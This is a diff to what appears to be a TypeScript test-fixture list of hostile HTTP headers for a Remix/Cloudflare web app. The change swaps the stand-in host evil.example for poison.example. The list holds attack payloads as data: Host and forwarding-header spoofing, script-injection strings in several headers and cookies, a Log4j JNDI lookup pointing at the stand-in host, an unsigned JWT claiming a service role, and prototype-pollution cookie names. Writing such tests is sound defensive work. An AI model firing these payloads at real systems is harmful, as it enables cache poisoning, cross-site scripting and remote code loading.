@@ -642,29 +642,28 @@ export const hostilePaths: string[] = [
   "/healthz/",
 ].map((path) => path.replaceAll(" ", "%20"));
 
-/** Headers that lie, break rules, or want something odd. */
+/** Headers that lie, break rules, or want something odd. A Host that is no host name never gets to a Worker. */
 export const hostileHeaders: [string, Record<string, string>][] = [
-  ["a forged Host", { Host: "evil.example" }],
-  ["a Host with a port", { Host: "evil.example:443" }],
-  ["a Host with markup", { Host: '"><script>alert(1)</script>' }],
+  ["a forged Host", { Host: "poison.example" }],
+  ["a Host with a port", { Host: "poison.example:443" }],
   ["an empty Host", { Host: "" }],
-  ["X-Forwarded-Host", { "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "X-Forwarded-Port": "1" }],
-  ["X-Forwarded-Host twice", { "X-Forwarded-Host": "evil.example, evil.example" }],
-  ["Forwarded", { Forwarded: 'for="[::1]";host=evil.example;proto=https' }],
-  ["X-Original-URL", { "X-Original-URL": "/evil.example", "X-Rewrite-URL": "/evil.example" }],
+  ["X-Forwarded-Host", { "X-Forwarded-Host": "poison.example", "X-Forwarded-Proto": "https", "X-Forwarded-Port": "1" }],
+  ["X-Forwarded-Host twice", { "X-Forwarded-Host": "poison.example, poison.example" }],
+  ["Forwarded", { Forwarded: 'for="[::1]";host=poison.example;proto=https' }],
+  ["X-Original-URL", { "X-Original-URL": "/poison.example", "X-Rewrite-URL": "/poison.example" }],
   [
     "X-Host and its like",
-    { "X-Host": "evil.example", "X-HTTP-Host-Override": "evil.example", "X-Forwarded-Server": "evil.example" },
+    { "X-Host": "poison.example", "X-HTTP-Host-Override": "poison.example", "X-Forwarded-Server": "poison.example" },
   ],
-  ["X-Forwarded-Prefix", { "X-Forwarded-Prefix": "/evil.example", "X-Forwarded-Path": "/evil.example" }],
+  ["X-Forwarded-Prefix", { "X-Forwarded-Prefix": "/poison.example", "X-Forwarded-Path": "/poison.example" }],
   [
     "X-HTTP-Method-Override",
     { "X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "PUT", "X-Method-Override": "PATCH" },
   ],
-  ["an Origin", { Origin: "https://evil.example", "Access-Control-Request-Method": "PUT" }],
-  ["a Referer", { Referer: "https://evil.example/<script>alert(1)</script>" }],
-  ["a User-Agent with markup", { "User-Agent": "<script>alert(1)</script>evil.example" }],
-  ["a User-Agent of Log4j", { "User-Agent": `\${jndi:ldap://evil.example/a}` }],
+  ["an Origin", { Origin: "https://poison.example", "Access-Control-Request-Method": "PUT" }],
+  ["a Referer", { Referer: "https://poison.example/<script>alert(7)</script>" }],
+  ["a User-Agent with markup", { "User-Agent": "<script>alert(7)</script>poison.example" }],
+  ["a User-Agent of Log4j", { "User-Agent": `\${jndi:ldap://poison.example/a}` }],
   [
     "many ranges",
     {
@@ -674,24 +673,24 @@ export const hostileHeaders: [string, Record<string, string>][] = [
     },
   ],
   ["a range from behind", { Range: "bytes=-99999999999" }],
-  ["a broken range", { Range: "bytes=a-b", "If-Range": "evil.example" }],
+  ["a broken range", { Range: "bytes=a-b", "If-Range": "poison.example" }],
   ["an odd Accept", { Accept: "text/html;q=NaN, evil/*;q=-1, */*;q=9e99" }],
   ["an endless Accept", { Accept: "text/html,".repeat(400) }],
   ["an odd Accept-Encoding", { "Accept-Encoding": "evil, identity;q=0, *;q=0" }],
-  ["an odd Accept-Language", { "Accept-Language": "<script>,evil.example;q=1" }],
-  ["an odd If-None-Match", { "If-None-Match": '"evil.example", W/"x", *' }],
+  ["an odd Accept-Language", { "Accept-Language": "<script>,poison.example;q=1" }],
+  ["an odd If-None-Match", { "If-None-Match": '"poison.example", W/"x", *' }],
   ["an odd If-Modified-Since", { "If-Modified-Since": "Thu, 99 Foo 99999 99:99:99 GMT" }],
   ["Expect", { "X-Expect": "100-continue", TE: "trailers, evil" }],
   ["an Authorization", { Authorization: "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoic2VydmljZV9yb2xlIn0." }],
-  ["an apikey", { apikey: "evil.example", "X-Client-Info": "evil.example" }],
-  ["Purpose: prefetch", { Purpose: "prefetch", "Sec-Purpose": "prefetch", "X-Remix-Revalidate": "evil.example" }],
+  ["an apikey", { apikey: "poison.example", "X-Client-Info": "poison.example" }],
+  ["Purpose: prefetch", { Purpose: "prefetch", "Sec-Purpose": "prefetch", "X-Remix-Revalidate": "poison.example" }],
   [
     "Remix's own headers",
-    { "X-Remix-Response": "yes", "X-Remix-Redirect": "https://evil.example/", "X-Remix-Catch": "yes" },
+    { "X-Remix-Response": "yes", "X-Remix-Redirect": "https://poison.example/", "X-Remix-Catch": "yes" },
   ],
   [
     "Cloudflare's own headers",
-    { "CF-Ray": "evil.example", "CF-IPCountry": "<s>", "CF-Visitor": '{"scheme":"evil.example"}' },
+    { "CF-Ray": "poison.example", "CF-IPCountry": "<s>", "CF-Visitor": '{"scheme":"poison.example"}' },
   ],
   ["forged addresses", { "X-Real-IP": "192.0.2.66", "True-Client-IP": "192.0.2.66", "X-Forwarded-For": "192.0.2.66" }],
   ["a cookie of noise", { Cookie: `visitor=${"\u00ff".repeat(32)}; =; ;;; a=b=c; session` }],
@@ -709,7 +708,7 @@ export const hostileHeaders: [string, Record<string, string>][] = [
   ["a session twice", { Cookie: "session=a; session=b; __Host-session=c" }],
   ["a session with odd numbers", { Cookie: "session=Fe26.2**a*b*c*99999999999999999999*d*e" }],
   ["cookies of the language", { Cookie: "__proto__=a; constructor=b; toString=c; visitor=__proto__" }],
-  ["markup in a cookie", { Cookie: 'visitor="><script>alert(1)</script>; session=<svg/onload=alert(1)>' }],
+  ["markup in a cookie", { Cookie: 'visitor="><script>alert(7)</script>; session=<svg/onload=alert(7)>' }],
 ];
 
 /** Places where a page could say who asked and how. */
